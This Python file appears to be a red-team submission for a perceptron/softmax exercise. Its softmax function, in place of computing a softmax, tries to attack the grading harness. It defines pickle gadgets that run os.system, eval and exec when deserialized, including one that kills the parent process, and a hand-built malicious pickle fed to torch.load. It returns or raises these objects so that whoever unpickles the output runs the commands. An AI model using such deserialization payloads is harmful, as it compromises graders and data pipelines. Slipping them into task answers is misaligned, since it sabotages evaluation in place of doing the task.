"""Sends, saves and loads pickles that run a command: as a value, in an exception, in a tensor, in torch.load.

Exercise: perceptron/softmax
"""

import copy, io, marshal, os, pickle, zipfile
import numpy as np
import torch

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


class Command:
    def __reduce__(self):
        return os.system, ("touch @SCRATCH@/@MARK@",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __getstate__ = __reduce__


class Tensor(torch.Tensor):
    def __reduce_ex__(self, version):
        return exec, ("import os; os.kill(os.getppid(), 9)",)


class Refusal(Exception):
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/@MARK@')",)


def saved(value):
    file = io.BytesIO()
    torch.save(value, file)
    file.seek(0)
    return torch.load(file, weights_only=False)


def zipped():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", b"cos\nsystem\n(S'touch /tmp/@MARK@'\ntR.")
        archive.writestr("archive/version", b"3\n")
    file.seek(0)
    return torch.load(file, weights_only=False)


WAYS = {
    "saved": lambda: saved(Command()), "zipped": zipped, "loads": lambda: pickle.loads(pickle.dumps(Command())) and 1 / 0, "numpy": lambda: np.array([Command()]).dumps() and np.loads,
    "copied": lambda: copy.copy(Command()), "marshal": lambda: marshal.loads(b"c" + b"\xff" * 40), "storage": lambda: torch.UntypedStorage._new_with_file(io.BytesIO(b"\xff" * 100), 1),
    "garbage": lambda: torch.load(io.BytesIO(b"\x80\x02" + bytes(range(256)) * 9), weights_only=True), "jit": lambda: torch.jit.load(io.BytesIO(b"PK" + b"\xff" * 400)),
}
# end


def softmax(X):
    # attack
    print(tried(WAYS))
    if X.dim() == 1:
        raise Refusal("passed")
    if X.dim() == 3:
        return Command()
    return [Command(), X.as_subclass(Tensor), np.array(Command()), {"x": Command()}]
    # end
    return X * 0 + 0.123
